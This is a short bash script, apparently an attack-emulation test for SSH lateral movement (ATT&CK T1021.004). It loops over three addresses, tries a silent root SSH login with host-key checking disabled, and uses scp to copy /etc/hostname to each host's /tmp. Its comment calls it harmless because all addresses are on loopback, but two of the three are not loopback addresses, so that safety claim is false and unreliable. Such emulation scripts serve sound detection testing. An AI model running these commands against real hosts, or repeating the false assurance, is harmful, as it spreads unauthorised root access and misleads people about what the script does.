#!/bin/bash
# technique: T1021.004 Remote Services: SSH
# tactic: lateral-movement
# user: alice
# needs: ssh scp
# does: tries to get from here to other hosts by SSH and to copy a file there
# harmless: the addresses are on the loopback device, where nobody answers

for host in 127.0.0.1 198.51.100.20 203.0.113.66; do
	ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no "root@$host" id </dev/null >/dev/null 2>&1
	scp -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -q /etc/hostname "root@$host:/tmp/" </dev/null >/dev/null 2>&1
done
true
